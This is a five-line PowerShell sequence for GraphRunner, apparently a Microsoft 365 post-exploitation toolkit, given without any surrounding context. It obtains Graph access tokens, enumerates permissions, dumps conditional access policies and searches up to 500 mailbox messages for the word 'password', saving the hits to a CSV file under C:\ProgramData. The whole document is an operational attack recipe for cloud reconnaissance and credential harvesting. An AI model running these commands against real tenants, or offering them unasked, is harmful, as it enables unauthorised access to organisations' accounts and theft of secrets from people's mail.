Import-Module .\GraphRunner.ps1
Get-GraphTokens
Invoke-GraphRecon -Tokens $tokens -PermissionEnum
Invoke-DumpCAPS -Tokens $tokens -ResolveGuids
Invoke-SearchMailbox -Tokens $tokens -SearchTerm "password" -MessageCount 500 -OutFile "C:\ProgramData\mail.csv"
